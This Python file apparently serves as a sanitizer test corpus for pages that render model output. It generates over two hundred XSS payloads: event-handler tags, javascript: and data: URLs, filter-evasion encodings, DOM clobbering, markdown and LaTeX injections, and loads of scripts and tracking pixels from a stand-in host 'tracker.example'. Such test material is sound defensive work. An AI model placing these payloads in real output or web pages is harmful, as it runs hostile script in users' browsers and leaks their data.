"""More than two hundred things that a model must not be able to do to the page it is read on."""

CALL = "window.hit()"
REMOTE = "http://tracker.example/x"
EVENTS = """abort afterprint animationend animationstart auxclick beforecopy beforeinput beforematch beforetoggle
    begin blur canplay change click contextmenu copy cuechange dblclick drag dragend dragenter drop end
    error focus focusin formdata fullscreenchange hashchange input invalid keydown keyup load loadeddata
    loadend loadstart message mousedown mouseenter mousemove mouseover mouseup pageshow paste play
    playing pointerdown pointerenter pointerover popstate progress ratechange repeat reset resize scroll
    scrollend search securitypolicyviolation select show submit suspend timeupdate toggle touchstart
    transitionend unload volumechange wheel""".split()
TAGS = [
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "input autofocus",
    "details open",
    "marquee",
    "iframe src=//tracker.example",
    "object data=//tracker.example",
    "a href=#",
    "div style=animation:x",
    "math",
    "select autofocus",
]


def with_events():
    return [f"<{TAGS[i % len(TAGS)]} on{event}={CALL}>" for i, event in enumerate(EVENTS)]


def elements():
    return [
        f"<script>{CALL}</script>",
        f"<SCRIPT SRC={REMOTE}></SCRIPT>",
        f"<script type=module>{CALL}</script>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg/onload={CALL}>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set onend={CALL} attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:{CALL}><text y=20>go</text></a></svg>",
        f"<svg><use href='{REMOTE}#a'/></svg>",
        f"<svg><image href='{REMOTE}'/></svg>",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'/></svg>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        f"<math href='javascript:{CALL}'>x</math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>x</maction></math>",
        f"<iframe src='javascript:{CALL}'></iframe>",
        f"<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
        f"<embed src='{REMOTE}'>",
        f"<object data='data:text/html,<script>{CALL}</script>'></object>",
        f"<form action='javascript:{CALL}'><button>go</button></form>",
        f"<button formaction=javascript:{CALL}>go</button>",
        f"<input type=image src='{REMOTE}'>",
        f"<link rel=stylesheet href='{REMOTE}'>",
        f"<link rel=prefetch href='{REMOTE}'>",
        f"<link rel=preload as=image href='{REMOTE}'>",
        f"<meta http-equiv=refresh content='0;url={REMOTE}'>",
        f"<base href='{REMOTE}/'>",
        f"<style>@import '{REMOTE}';</style>",
        f"<style>*{{background:url({REMOTE})}}</style>",
        f"<div style='background:url({REMOTE})'>x</div>",
        f"<table background='{REMOTE}'><tr><td background='{REMOTE}'>x",
        f"<img src='{REMOTE}'>",
        f"<img srcset='{REMOTE} 2x'>",
        f"<picture><source srcset='{REMOTE}'><img></picture>",
        f"<video poster='{REMOTE}'></video>",
        f"<video><source src='{REMOTE}' onerror={CALL}></video>",
        f"<audio src='{REMOTE}' autoplay></audio>",
        f"<track src='{REMOTE}'>",
        f"<body background='{REMOTE}'>",
        f"<frameset><frame src='{REMOTE}'></frameset>",
        f"<applet code='{REMOTE}'></applet>",
        f"<bgsound src='{REMOTE}'>",
        f"<template><script>{CALL}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
        f"<title><img src=x onerror={CALL}></title>",
        f"<textarea><img src=x onerror={CALL}></textarea>",
        f"<xmp><img src=x onerror={CALL}></xmp>",
        f"<plaintext><img src=x onerror={CALL}>",
        f"<isindex type=image src='{REMOTE}'>",
        f"<!--><img src=x onerror={CALL}>-->",
        f"<!--[if IE]><script>{CALL}</script><![endif]-->",
        f"<?xml-stylesheet href='{REMOTE}'?>",
        f"<![CDATA[<script>{CALL}</script>]]>",
        f"<img\x00src=x onerror={CALL}>",
        f"<img/src=x/onerror={CALL}>",
        f"<img src=x onerror\n=\n{CALL}>",
        f"<IMG SRC=x OnErRoR={CALL}>",
        f"<img src='x' onerror=&#119;indow.hit()>",
        f"<img src=\"x` `<script>{CALL}</script>\"` `>",
        f"<custom-element onclick={CALL}>x</custom-element>",
        f"<p id=app>clobbered</p>",
        f"<form id=attributes><input name=attributes></form>",
        f"<img name=getElementById>",
        f"<a id=rich name=rich href='{REMOTE}'>x</a>",
        f"<b onmouseover={CALL}>x</b>",
        f"<br onload={CALL}>",
        f"<u style='x:expression({CALL})'>x</u>",
        f"<sub onclick={CALL}>x</sub>",
        f"<kbd autofocus tabindex=1 onfocus={CALL}>x</kbd>",
        f"<portal src='{REMOTE}'>",
        f"<dialog open onclose={CALL}>x</dialog>",
        f"<slot onslotchange={CALL}>",
        f"<button popovertarget=x>x</button><p popover id=x onbeforetoggle={CALL}>",
        f"<details ontoggle={CALL} open>x</details>",
        f"<label for=app onclick={CALL}>x</label>",
        f"<fencedframe config=x>",
    ]


def markdown():
    schemes = [
        f"javascript:{CALL}",
        f"JaVaScRiPt:{CALL}",
        f"java\tscript:{CALL}",
        f"&#106;avascript:{CALL}",
        f"javascript&colon;{CALL}",
        f"\x01javascript:{CALL}",
        f"data:text/html,<script>{CALL}</script>",
        f"data:image/svg+xml,<svg onload={CALL}>",
        f"vbscript:{CALL}",
        f"view-source:javascript:{CALL}",
        f"feed:javascript:{CALL}",
        f"blob:null/{CALL}",
        "file:///etc/passwd",
        f"javascript://%0a{CALL}",
        f"  javascript:{CALL}",
        f"%6aavascript:{CALL}",
    ]
    return (
        [f"[go]({s})" for s in schemes]
        + [f"![see]({s})" for s in schemes[:8]]
        + [f"<{s}>" for s in schemes[:4]]
        + [
            f"[go][1]\n\n[1]: javascript:{CALL}",
            f"![pixel]({REMOTE})",
            f"![pixel]({REMOTE} \"title\")",
            f"![][1]\n\n[1]: {REMOTE}",
            f"[![nested]({REMOTE})](javascript:{CALL})",
            f"![a](x\" onerror=\"{CALL})",
            f"[a](x\" onclick=\"{CALL})",
            f"[a](http://ok.example 'x\" onmouseover=\"{CALL}')",
            f"```html\n<img src=x onerror={CALL}>\n```",
            f"```\"><img src=x onerror={CALL}>\ncode\n```",
            f"```js onload={CALL}\nx\n```",
            f"`<img src=x onerror={CALL}>`",
            f"| <img src=x onerror={CALL}> | b |\n|---|---|\n| <script>{CALL}</script> | ![x]({REMOTE}) |",
            f"# <img src=x onerror={CALL}>",
            f"> <svg onload={CALL}>",
            f"- <iframe src='{REMOTE}'>",
            f"1. ![x]({REMOTE})",
            f"**<img src=x onerror={CALL}>**",
            f"~~<script>{CALL}</script>~~",
            f"http://ok.example/\"onmouseover=\"{CALL}",
            f"<http://ok.example/\" onclick=\"{CALL}>",
            f"\\<img src=x onerror={CALL}>",
            f"&lt;img src=x onerror={CALL}&gt;",
            f"<div>\n\n![x]({REMOTE})\n\n</div>",
            f"<br\n\n<img src=x onerror={CALL}>",
            f"a <b <img src=x onerror={CALL}>> c",
        ]
    )


def formulas():
    commands = [
        r"\href{javascript:window.hit()}{x}",
        r"\url{javascript:window.hit()}",
        rf"\includegraphics{{{REMOTE}}}",
        r"\htmlClass{app}{x}",
        r"\htmlId{app}{x}",
        r"\htmlStyle{background:url(//tracker.example)}{x}",
        r"\htmlData{onclick=window.hit()}{x}",
        r"\unicode{<img src=x onerror=window.hit()>}",
        r"\text{<script>window.hit()</script>}",
        r"<img src=x onerror=window.hit()>",
        r"\def\x{\x\x}\x",
        r"\rule{99999em}{99999em}",
        r"\color{red;background:url(//tracker.example)}x",
    ]
    return [f"${c}$" for c in commands] + [f"$$\n{c}\n$$" for c in commands] + [f"\\({c}\\)" for c in commands[:6]]


def thoughts():
    return [
        f"<think><img src=x onerror={CALL}></think>answer",
        f"<think>![x]({REMOTE})",
        f"</think><script>{CALL}</script>",
        f"<think>{'<' * 200}</think>",
        f"<thinking><svg onload={CALL}></thinking>x",
    ]


STRINGS = with_events() + elements() + markdown() + formulas() + thoughts()
